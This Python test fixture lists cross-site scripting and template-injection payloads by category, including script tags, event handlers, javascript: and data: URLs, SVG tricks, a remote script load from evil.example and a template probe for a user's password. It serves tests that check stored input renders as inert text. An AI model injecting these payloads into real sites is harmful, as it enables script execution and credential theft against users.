"""Hostile input: what an attacker (or a careless paste) may type into any field or query.

Each payload is short enough for a 100-character name field. Some can never be stored (a NUL
byte) or are refused by a field's own rules (a link that is not http(s)); the tests accept a
refusal as safe. What is stored must reach readers as text, never as markup that runs.
"""

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src=x onerror="alert(1)"//',
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    '<div onmouseover="alert(1)">di chuột</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
]

URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    '<a href="javascript:alert(1)">bấm vào đây</a>',
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data:text/html,<script>alert(1)</script>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="javascript:alert(1)"><button>Gửi</button></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
]

SVG_AND_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]

BROKEN_MARKUP = [
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus '",
    "`><img src=x onerror=alert(1)>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<style><img src="</style><img src=x onerror=alert(1)//">',
    '<a href="x" <img src=x onerror=alert(1)>',
    '<img """><script>alert(1)</script>">',
    "<img src=x onerror=alert(1)",
    '<div style="background:url(javascript:alert(1))">',
]

ENCODED = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    '"};alert(1);//',
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
]

TEMPLATE_SYNTAX = [
    "{{ request.user.password }}",
    "{% debug %}",
    "{{7*7}}",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
]

UNICODE_TRICKS = [
    "＜script＞alert(1)＜/script＞",
    "<scr\u200bipt>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "\u2028<script>alert(1)</script>\u2029",
    'Châu Đốc <script>alert("giảm nghèo")</script>',
]

PAYLOADS = [
    *SCRIPT_TAGS,
    *EVENT_HANDLERS,
    *URLS,
    *SVG_AND_MATHML,
    *BROKEN_MARKUP,
    *ENCODED,
    *TEMPLATE_SYNTAX,
    *UNICODE_TRICKS,
]
